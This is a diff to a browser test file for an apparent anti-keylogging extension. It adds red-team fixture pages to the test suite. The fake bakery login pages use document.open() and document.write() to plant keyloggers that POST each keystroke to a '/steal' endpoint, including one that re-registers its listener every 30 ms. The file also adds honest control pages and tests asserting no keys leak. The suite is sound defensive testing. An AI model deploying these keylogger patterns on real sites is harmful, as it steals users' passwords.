@@ -1,5 +1,5 @@
 import { beforeAll, expect, test } from 'vitest';
-import { forEachBrowser, type Session, type Tab } from '../harness';
+import { forEachBrowser, poll, type Session, type Tab } from '../harness';
 import { expectNoWarningFor, notWarned, startReady } from '../page-helpers';
 import { attackSettled, expectPageWarning, js, stolen } from './kit';
 
@@ -127,7 +127,11 @@ const H3 = page(
   FREEZE(6_500),
 );
 
-/** k3: `document.open()` during the wait: the new document's keylogger is registered before the hold's listeners */
+/**
+ * k3: `document.open()` during the wait: the new document's keylogger is registered before the hold's listeners. It
+ * reports as `written`: the first page's own ears (`key`, behind the hold) may hear a key typed before the page's
+ * open runs on a busy machine — a page with no claim yet, as any page's listener does — and are not what is measured
+ */
 const K3 = page(
   EARS,
   `<h1>동네 빵집 회원 로그인</h1><form onsubmit="return false"><input id="pw" type="password" name="pw" style="width:320px;height:44px"></form>`,
@@ -140,10 +144,78 @@ pw.addEventListener('click', function (e) {
     for (var i = 0; i < t.length; i++) u += String.fromCharCode(t.charCodeAt(i) - 1);
     document.open();
     document.write('<!doctype html><meta charset="utf-8"><body>' + u + '<input id="pw2" type="password"><scr' + 'ipt>' +
-      'window.addEventListener("keydown", function (e) { if (e.isTrusted) fetch("/steal?key=" + encodeURIComponent(e.key), { method: "POST", keepalive: true }); }, true);' +
+      'window.addEventListener("keydown", function (e) { if (e.isTrusted) fetch("/steal?written=" + encodeURIComponent(e.key), { method: "POST", keepalive: true }); }, true);' +
       '</scr' + 'ipt></body>');
     document.close();
   }, 0);
+});`,
+);
+
+/** the kit's keylogger as the written document registers it: now, and again a microtask, a task and every 30 ms later */
+const LOGGER =
+  'function log(e) { if (e.isTrusted) fetch("/steal?written=" + encodeURIComponent(e.key), { method: "POST", keepalive: true }); }' +
+  'function listen() { window.addEventListener("keydown", log, true); document.addEventListener("keydown", log, true); }' +
+  'listen(); queueMicrotask(listen); setTimeout(listen, 0); setInterval(listen, 30);';
+
+/** k3b: k3 whose written document registers its keylogger again and again after its document.open() */
+const K3B = K3.replace(
+  `'window.addEventListener("keydown", function (e) { if (e.isTrusted) fetch("/steal?written=" + encodeURIComponent(e.key), { method: "POST", keepalive: true }); }, true);'`,
+  js(LOGGER),
+);
+
+/**
+ * k3c: the document.open() before the press: once the page is in place it writes a plain login (no word of the
+ * brand) with its keylogger; the claim goes up at the user's press on the written box
+ */
+const K3C = page(
+  EARS,
+  `<h1>동네 빵집 회원 로그인</h1>`,
+  `
+setTimeout(function () {
+  var t = ${js(shifted(CLAIM))};
+  document.open();
+  document.write('<!doctype html><meta charset="utf-8"><body><h1>동네 빵집 회원 로그인</h1><div id="later"></div><input id="pw2" type="password" style="width:320px;height:44px"><scr' + 'ipt>' +
+    ${js(LOGGER)} +
+    'var pw2 = document.getElementById("pw2"), claimed = false, t = ' + JSON.stringify(t) + ';' +
+    'pw2.addEventListener("mousedown", function (e) { if (!e.isTrusted || claimed) return; claimed = true; var u = ""; for (var i = 0; i < t.length; i++) u += String.fromCharCode(t.charCodeAt(i) - 1); document.getElementById("later").innerHTML = u; });' +
+    'fetch("/steal?opened=yes", { method: "POST" });' +
+    '</scr' + 'ipt></body>');
+  document.close();
+}, 200);`,
+);
+
+/**
+ * h4: an honest login the page writes with document.open() at load (an old-style loader), its script registering a
+ * window key listener (Enter submits) in the same task: no press came before, so its listener is its own
+ */
+const H4 = `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>로딩 중</title></head><body><p>로딩 중…</p>
+<script>
+setTimeout(function () {
+  document.open();
+  document.write('<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>회원 로그인</title></head><body><h1>동네 빵집 회원 로그인</h1>' +
+    '<form onsubmit="return false"><input id="pw" type="password" name="pw" style="width:320px;height:44px"></form><scr' + 'ipt>' +
+    'window.seen = 0; window.addEventListener("keydown", function (e) { if (e.isTrusted) window.seen++; }, true);' +
+    'document.addEventListener("input", function () { window.inputs = (window.inputs || 0) + 1; });' +
+    '</scr' + 'ipt></body></html>');
+  document.close();
+}, 100);
+</script></body></html>`;
+
+/**
+ * h5: an honest old page that answers the login button with document.write (an implicit document.open(): a page
+ * that only says to wait, no field, no word of the brand), its script listening for Escape on the window
+ */
+const H5 = page(
+  '',
+  `<h1>동네 빵집 회원 로그인</h1><form onsubmit="return false"><input id="pw" type="password" name="pw" style="width:320px;height:44px"><button id="go" type="button" style="width:120px;height:44px">로그인</button></form>`,
+  `
+window.steal = function () {};
+document.getElementById('go').addEventListener('click', function () {
+  var typed = pw.value;
+  document.write('<!doctype html><meta charset="utf-8"><body><p>로그인 중입니다. 잠시만 기다려 주세요.</p><scr' + 'ipt>' +
+    'window.typed = ' + JSON.stringify(typed) + '; window.seen = 0; window.addEventListener("keydown", function (e) { if (e.isTrusted) window.seen++; }, true);' +
+    '</scr' + 'ipt></body>');
+  document.close();
 });`,
 );
 
@@ -159,7 +231,7 @@ function typedStolen(server: Parameters<typeof stolen>[0], host: string): string
     .filter((p) => /[hunter2]/.test(p.replace(/^\/steal\?\w+=/, '')));
 }
 
-async function clickAndType(tab: Tab, selector: string, text: string): Promise<void> {
+async function clickAndType(tab: Tab, selector: string, text: string, gap = 60): Promise<void> {
   const box = await tab.evaluate((sel: string) => {
     const r = document.querySelector(sel)!.getBoundingClientRect();
     return { x: r.left + r.width / 2, y: r.top + r.height / 2 };
@@ -168,7 +240,7 @@ async function clickAndType(tab: Tab, selector: string, text: string): Promise<v
   const keys: Promise<void>[] = [];
   for (const c of text) {
     keys.push(tab.keyboard(c).catch(() => undefined));
-    await settle(60);
+    await settle(gap);
   }
   await Promise.all(keys);
 }
@@ -280,11 +352,11 @@ forEachBrowser('hostile: red team 37, the kept keys', (ctx) => {
     },
   );
 
-  // Open (docs/threat-model.md, red team 37 k3): document.open() erases the window's listeners, ours included, and
-  // the new document's script registers its keylogger in the same task, before the hold puts its own back, so it
-  // sees the keys ahead of the hold until the warning (2 keys in Chromium, 5 in Firefox). Not fixed: kept here to
-  // be played when it is.
-  test.skip('k3. a document.open() during the wait: the new document does not read the keys', async () => {
+  // docs/threat-model.md, red team 37 class B: document.open() erases the window's listeners, ours included, and
+  // the new document's script registers its keylogger in the same task, before the hold puts its own back; it saw
+  // the keys ahead of the hold until the warning (2 keys in Chromium, 5 in Firefox). Now the hold takes the window
+  // back (its own document.open(), the page's nodes put back) in the observer's microtask, before any key.
+  test('k3. a document.open() during the wait: the new document does not read the keys', async () => {
     const host = 'kept-open.example.test';
     ctx.server.page(host, '/login', K3);
     const tab = await s.newTab(ctx.server.url(host, '/login'));
@@ -292,7 +364,101 @@ forEachBrowser('hostile: red team 37, the kept keys', (ctx) => {
     await attackSettled(s, tab, ctx.server, host);
     await clickAndType(tab, '#pw', 'hunter2');
     await settle(3_000);
-    expect(stolen(ctx.server, host, 'key').map((r) => r.path)).toEqual([]);
+    expect(stolen(ctx.server, host, 'written').map((r) => r.path)).toEqual([]);
+    const w = await expectPageWarning(s, tab, 15_000);
+    expect(w.kind).toBe('suspicious-page');
+    await tab.close();
+  });
+
+  test("k3 at a user's pace (100 ms a key): the new document does not read the keys", async () => {
+    const host = 'kept-open-pace.example.test';
+    ctx.server.page(host, '/login', K3);
+    const tab = await s.newTab(ctx.server.url(host, '/login'));
+    await tab.bringToFront();
+    await attackSettled(s, tab, ctx.server, host);
+    await clickAndType(tab, '#pw', 'hunter2', 100);
+    await settle(3_000);
+    expect(stolen(ctx.server, host, 'written').map((r) => r.path)).toEqual([]);
+    await tab.close();
+  });
+
+  test('k3b. a written keylogger registered again after the document.open() does not read the keys either', async () => {
+    const host = 'kept-open-again.example.test';
+    ctx.server.page(host, '/login', K3B);
+    const tab = await s.newTab(ctx.server.url(host, '/login'));
+    await tab.bringToFront();
+    await attackSettled(s, tab, ctx.server, host);
+    await clickAndType(tab, '#pw', 'hunter2');
+    await settle(3_000);
+    expect(stolen(ctx.server, host, 'written').map((r) => r.path)).toEqual([]);
+    const w = await expectPageWarning(s, tab, 15_000);
+    expect(w.kind).toBe('suspicious-page');
+    await tab.close();
+  });
+
+  test('k3c. a document.open() before the press, the claim at the press: the keylogger does not read the keys', async () => {
+    const host = 'kept-open-early.example.test';
+    ctx.server.page(host, '/login', K3C);
+    const tab = await s.newTab(ctx.server.url(host, '/login'));
+    await tab.bringToFront();
+    await poll(
+      async () => stolen(ctx.server, host, 'opened').length > 0,
+      (ok) => ok,
+      20_000,
+      'the written document',
+    );
+    await settle(1_500);
+    await clickAndType(tab, '#pw2', 'hunter2');
+    await settle(3_000);
+    expect(stolen(ctx.server, host, 'written').map((r) => r.path)).toEqual([]);
+    const w = await expectPageWarning(s, tab, 15_000);
+    expect(w.kind).toBe('suspicious-page');
+    await tab.close();
+  });
+
+  test('h4. an honest login written with document.open() at load keeps its own key listener and the typing', async () => {
+    const host = 'written-bakery.example.test';
+    ctx.server.page(host, '/login', H4);
+    const tab = await s.newTab(ctx.server.url(host, '/login'));
+    await tab.bringToFront();
+    await tab.waitFor(() => document.getElementById('pw') !== null, undefined, 10_000);
+    await settle(1_500);
+    await clickAndType(tab, '#pw', 'hunter2', 100);
+    await settle(1_000);
+    await expectNoWarningFor(tab, 2_000);
+    expect(
+      await tab.evaluate(() => ({
+        value: (document.getElementById('pw') as HTMLInputElement).value,
+        seen: (window as unknown as { seen: number }).seen,
+      })),
+    ).toEqual({ value: 'hunter2', seen: 7 });
+    await tab.close();
+  });
+
+  test('h5. an honest page that answers its login button with document.write() keeps the listener it wrote', async () => {
+    const host = 'written-wait.example.test';
+    ctx.server.page(host, '/login', H5);
+    const tab = await s.newTab(ctx.server.url(host, '/login'));
+    await tab.bringToFront();
+    await tab.waitFor(() => document.getElementById('go') !== null, undefined, 10_000);
+    await settle(1_500);
+    await clickAndType(tab, '#pw', 'hunter2', 100);
+    await settle(1_000);
+    const go = await tab.evaluate(() => {
+      const r = document.getElementById('go')!.getBoundingClientRect();
+      return { x: r.left + r.width / 2, y: r.top + r.height / 2 };
+    });
+    await tab.mouseClick(go.x, go.y);
+    await settle(500);
+    await tab.keyboard('x');
+    await settle(500);
+    await expectNoWarningFor(tab, 1_500);
+    expect(
+      await tab.evaluate(() => {
+        const w = window as unknown as { seen: number; typed: string };
+        return { typed: w.typed, seen: w.seen };
+      }),
+    ).toEqual({ typed: 'hunter2', seen: 1 });
     await tab.close();
   });
 });
